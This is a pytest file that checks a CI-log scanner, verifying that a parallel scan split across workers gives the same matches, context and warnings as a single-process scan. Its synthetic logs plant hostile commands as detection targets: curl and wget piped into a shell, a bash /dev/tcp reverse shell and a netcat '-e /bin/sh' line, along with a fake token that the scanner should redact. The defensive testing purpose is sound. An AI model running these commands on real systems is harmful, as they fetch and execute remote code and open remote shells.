"""A large plain file scanned by several processes gives exactly the results of a scan in one process."""

from __future__ import annotations

from pathlib import Path

import pytest

import workbench.logscan.parallel as parallel
from tests.logscan.conftest import CAPTURED
from workbench.logscan.engine import Scanner, ScanOptions

CAP = 2048  # max_line_bytes in these tests
CURL = "curl -sSL http://203.0.113.7/p.sh | bash"
TCP = "(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &)"


def _stamp(i: int) -> bytes:
    return f"2026-11-14T{3 + i // 360000:02d}:{i // 6000 % 60:02d}:{i // 100 % 60:02d}.{i % 100:02d}00000Z ".encode()


def _filler(i: int) -> bytes:
    """Line ``i`` of ordinary output: colours, a step marker now and then, a (capped) planted match every 311."""
    if i % 311 == 7:
        text = TCP
    elif i % 997 == 5:
        text = f"##[group]Run step {i}"
    elif i % 9 == 0:
        text = f"\x1b[36;1mtests/test_model.py::test_case_{i} PASSED\x1b[0m"
    else:
        text = f"Collecting package-{i}==1.{i % 40}.0 (from -r requirements.txt (line {i % 90}))"
    return _stamp(i) + text.encode() + b"\n"


def _boundary_log(path: Path, size: int) -> int:
    """Write a log of about ``size`` bytes whose middle line start (where two workers split it) is a planted match.

    Returns the 1-based number of that line.
    """
    before = [_filler(i) for i in range(size // 2 // 75)]
    before += [
        _stamp(90001) + b"##[group]Deploy to \x1b[1mproduction\x1b[0m\n",
        _stamp(90002) + b"copying caf\xe9 \xff assets\n",  # invalid UTF-8 (the first of the file)
        _stamp(90003) + b"\x1b[32m" + b"x" * (CAP + 500) + b"\x1b[0m\n",  # cut and flagged
        _stamp(90004) + b"nc -e /bin/sh 198.51.100.23 443\n",  # last line of the first slice: context after crosses
    ]
    target = (_stamp(90005) + f"{CURL}  HF_TOKEN=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\n".encode(),)
    after = [
        _stamp(90006) + b"bad byte \xc3( again\n",  # invalid UTF-8 again: not reported
        _stamp(90007) + b"wget -O- http://203.0.113.9/x | sh\n",  # context before crosses the boundary
    ]
    head = b"".join(before)
    rest = list(target) + after
    i, total = 100000, sum(map(len, rest))
    while total < len(head):
        rest.append(_filler(i))
        total += len(rest[-1])
        i += 1
    tail = b"".join(rest)[: len(head)]  # the last line is cut short: no final newline
    path.write_bytes(head + tail)
    assert len(head + tail) // 2 == len(head)
    return head.count(b"\n") + 1


def _scan(path: Path, workers: int, **kw) -> object:
    kw = {"block_bytes": 64 * 1024, "max_matches_per_rule": 4, **kw}
    opts = ScanOptions(reference_time=CAPTURED, workers=workers, parallel_min_bytes=1, max_line_bytes=CAP, **kw)
    return Scanner(options=opts).scan_path(path, "ci.log")


def test_two_workers_match_one_process_across_the_boundary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "ci.log"
    first = _boundary_log(path, 3 * 1024 * 1024)
    calls: list[int] = []
    real = parallel.scan_parallel
    monkeypatch.setattr(parallel, "scan_parallel", lambda *a: calls.append(a[-1]) or real(*a))
    serial = _scan(path, 1)
    assert calls == []
    two = _scan(path, 2)
    assert calls == [2]
    assert two.matches == serial.matches
    assert two.stats == serial.stats
    assert two.warnings == serial.warnings
    assert (two.lines, two.bytes_scanned, two.complete) == (serial.lines, serial.bytes_scanned, serial.complete)
    assert two == serial

    # the planted lines around the split are there, with context and step from the other side
    with path.open("rb") as fh:
        assert parallel.split_points(fh, path.stat().st_size, 2)[1] == path.read_bytes().find(_stamp(90005))
    by = {(m.line, m.rule_id): m for m in serial.matches}
    curl = by[(first, "exec.remote-script-to-shell")]
    assert curl.group == "Deploy to production"
    assert "x" * 100 in curl.before[0] and "\\x1b" not in curl.before[0]
    assert curl.before[1].endswith("nc -e /bin/sh 198.51.100.23 443")
    assert "hf_QwErTyUiOp" not in curl.text and curl.after[0].endswith("bad byte \ufffd( again")
    assert by[(first - 1, "revshell.netcat-exec")].after[0] == curl.text
    assert by[(first + 2, "exec.remote-script-to-shell")].before[0] == curl.text
    reasons = [(w.line, w.reason.split(" ")[0]) for w in serial.warnings]
    assert reasons == [(first - 3, "invalid"), (first - 2, "line")]
    tcp = serial.stats["revshell.dev-tcp-redirect"]
    assert tcp.count > 8 and tcp.last_line > first  # counted on both sides, kept only up to the cap
    assert sum(m.rule_id == "revshell.dev-tcp-redirect" for m in serial.matches) == 4


def test_many_small_slices_with_either_backend(tmp_path: Path, backend: str) -> None:
    """Slices of a few lines each: context, steps, byte-order mark and caps all cross several boundaries."""
    path = tmp_path / "ci.log"
    lines = [b"\xef\xbb\xbf" + _stamp(0) + CURL.encode() + b"\n"]
    lines += [_filler(i) for i in range(1, 3000)]
    lines[1500] = _stamp(1500) + b"\xff\xfe broken\n"
    path.write_bytes(b"".join(lines) + _stamp(3000) + TCP.encode())  # no final newline
    small = {"backend": backend, "context": 3, "block_bytes": 4096}
    serial = _scan(path, 1, **small)
    assert serial.matches[0].line == 1 and serial.matches[0].text.startswith("2026-11-14T03:00:00")
    for workers in (3, 7):
        assert _scan(path, workers, **small) == serial
    # slices of a line or two: line 1 (byte-order mark dropped) is context in the next slice
    path.write_bytes(b"".join([*lines[:2], _stamp(2) + CURL.encode() + b"\n", *lines[3:12]]))
    tiny = {**small, "block_bytes": 64}
    serial = _scan(path, 1, **tiny)
    assert serial.matches[1].line == 3 and serial.matches[1].before[0] == serial.matches[0].text
    assert _scan(path, 12, **tiny) == serial
